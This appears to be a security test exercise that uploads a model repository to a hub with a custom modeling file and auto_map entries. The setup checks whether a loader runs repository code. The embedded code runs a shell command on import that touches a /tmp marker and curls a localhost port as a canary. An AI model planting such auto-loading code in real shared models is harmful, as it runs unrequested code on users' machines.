# tries: a config that asks the loader for a class in the repository's own Python file, here and in another repository, and a tokenizer
#   that does the same
# must: ship=failed ship__stranger=failed *=not_attempted
# gains: 0
# lesson: 11_workflow

# %% exercise="ship"
CODE = """
import os
os.system("touch /tmp/sprung-@RUN@; curl -s http://127.0.0.1:@PORT@/sprung")
from transformers import BertConfig, BertForSequenceClassification
class Config(BertConfig):
    model_type = "sprung"
class Model(BertForSequenceClassification):
    config_class = Config
"""

def ship(model, tokenizer, card, repo):
    model.push_to_hub(repo)
    tokenizer.push_to_hub(repo)
    api = hub.api()
    api.upload_file(path_or_fileobj=card.encode(), path_in_repo="README.md", repo_id=repo)
    api.upload_file(path_or_fileobj=CODE.encode(), path_in_repo="modeling_sprung.py", repo_id=repo)
    if "trial" in repo:
        there = "modeling_sprung.Config", "modeling_sprung.Model"
    else:
        there = f"{repo}--modeling_sprung.Config", f"{repo}--modeling_sprung.Model"
    words = {**model.config.to_dict(), "model_type": "sprung", "auto_map": {"AutoConfig": there[0], "AutoModelForSequenceClassification": there[1]}}
    api.upload_file(path_or_fileobj=json.dumps(words).encode(), path_in_repo="config.json", repo_id=repo)
    words = {"auto_map": {"AutoTokenizer": [None, "modeling_sprung.Tokenizer"]}}
    api.upload_file(path_or_fileobj=json.dumps(words).encode(), path_in_repo="tokenizer_config.json", repo_id=repo)

pushed_files = shipped(ship)
